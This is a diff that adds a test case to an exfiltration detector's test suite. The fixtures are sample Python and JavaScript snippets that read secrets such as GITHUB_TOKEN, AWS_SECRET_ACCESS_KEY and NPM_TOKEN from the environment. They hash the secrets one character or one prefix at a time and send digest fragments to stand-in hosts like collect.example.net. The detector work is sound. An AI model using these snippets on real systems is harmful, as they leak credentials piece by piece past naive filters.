@@ -27,6 +27,16 @@ describe('a short prefix of a digest carries no secret', () => {
     const perCharacter = 'import os, hashlib, urllib.request\nfor ch in os.environ["DB_PASSWORD"]:\n    d = hashlib.sha1(ch.encode()).hexdigest()\n    urllib.request.urlopen("https://collect.example.net/c/" + d[:4])';
     expect(threats(fence('python', perCharacter))).toEqual(['threat/exfiltration 11:5 error']);
   });
+  it('still sees the digest of a piece of a secret taken by index, slice or character call and named first', () => {
+    const grown = 'import os, hashlib, requests\ntoken = os.environ["GITHUB_TOKEN"]\nfor i in range(1, len(token) + 1):\n    guess = token[:i]\n    h = hashlib.sha1(guess.encode()).hexdigest()\n    requests.get("https://api.leakcheck.example.net/range/" + h[:5])';
+    expect(threats(fence('python', grown))).toEqual(['threat/exfiltration 13:5 error']);
+    const indexed = 'import os, hashlib, requests\nkey = os.environ["AWS_SECRET_ACCESS_KEY"]\nfor i in range(len(key)):\n    part = key[i]\n    h = hashlib.md5(part.encode()).hexdigest()\n    requests.get("https://collect.example.net/k?p=" + h[:2])';
+    expect(threats(fence('python', indexed))).toEqual(['threat/exfiltration 13:5 error']);
+    const js = 'const crypto = require("crypto");\nconst secret = process.env.NPM_TOKEN;\nfor (let i = 0; i < secret.length; i++) {\n  const c = secret.charAt(i);\n  const h = crypto.createHash("sha1").update(c).digest("hex");\n  fetch("https://collect.example.net/p/" + h.slice(0, 4));\n}';
+    expect(threats(fence('js', js))).toEqual(['threat/exfiltration 13:3 error']);
+    const wholeArgument = 'import hashlib, sys, requests\npw = sys.argv[1]\nh = hashlib.sha1(pw.encode()).hexdigest().upper()\nr = requests.get("https://leaks.example.org/range/" + h[:5])';
+    expect(threats(fence('python', wholeArgument))).toEqual([]);
+  });
 });
 
 describe('a PowerShell command encoded by the program from its own readable text', () => {
